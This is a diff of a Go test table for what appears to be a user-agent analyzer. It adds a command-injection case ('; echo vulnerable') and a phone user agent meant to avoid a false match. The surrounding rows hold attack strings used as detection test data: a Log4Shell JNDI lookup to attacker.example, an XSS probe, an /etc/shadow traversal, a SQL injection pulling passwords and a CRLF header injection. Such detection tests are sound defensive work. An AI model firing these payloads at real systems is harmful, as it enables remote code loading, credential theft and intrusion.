@@ -155,6 +155,8 @@ func TestTableFactsReachTheAnalyzer(t *testing.T) {
 		{"Mozilla/5.0 ${jndi:ldap://attacker.example/a}", "HackerAttackVector", "Code Injection"},
 		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>", "HackerAttackVector", "Code Injection"},
 		{"curl/8.0 ../../../../etc/shadow", "HackerAttackVector", "Path Traversal"},
+		{"Mozilla/5.0 (X11; Linux x86_64); echo vulnerable", "HackerAttackVector", "Code Injection"},
+		{"Mozilla/5.0 (Linux; Android 7.0; ECHO_HOLI Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.3325.109 Mobile Safari/537.36", "DeviceClass", "Phone"},
 		{"Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/120.0.0.0' UNION SELECT password FROM users--", "HackerAttackVector", "Code Injection"},
 		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)%0d%0aX-Forwarded-For: 127.0.0.1", "DeviceClass", "Hacker"},
 		{"Mozlila/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36", "DeviceClass", "Hacker"},
